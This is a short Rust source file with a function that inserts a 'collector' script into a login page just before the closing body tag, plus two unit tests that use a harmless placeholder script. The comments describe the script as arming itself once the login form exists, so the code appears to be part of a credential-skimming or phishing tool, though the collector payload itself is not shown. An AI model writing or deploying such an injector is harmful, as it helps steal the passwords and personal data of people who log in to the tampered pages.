/// Splice the collector into a login page, just before `</body>` so the
/// form exists when the script arms itself. Pages without a closing body
/// tag get the script appended.
pub fn inject_collector(html: &str, script: &str) -> String {
    let tag = format!("<script>{}</script>", script);

    if let Some(pos) = html.find("</body>") {
        let mut result = String::with_capacity(html.len() + tag.len());
        result.push_str(&html[..pos]);
        result.push_str(&tag);
        result.push_str(&html[pos..]);
        result
    } else {
        format!("{}{}", html, tag)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn script_lands_before_closing_body() {
        let html = "<html><body><form></form></body></html>";
        let out = inject_collector(html, "var x = 1;");
        let script_pos = out.find("<script>var x = 1;</script>").unwrap();
        let body_pos = out.find("</body>").unwrap();
        assert!(script_pos < body_pos);
        assert!(out.find("<form>").unwrap() < script_pos);
    }

    #[test]
    fn body_less_fragment_gets_script_appended() {
        let out = inject_collector("<form></form>", "var x = 1;");
        assert!(out.ends_with("<script>var x = 1;</script>"));
    }
}
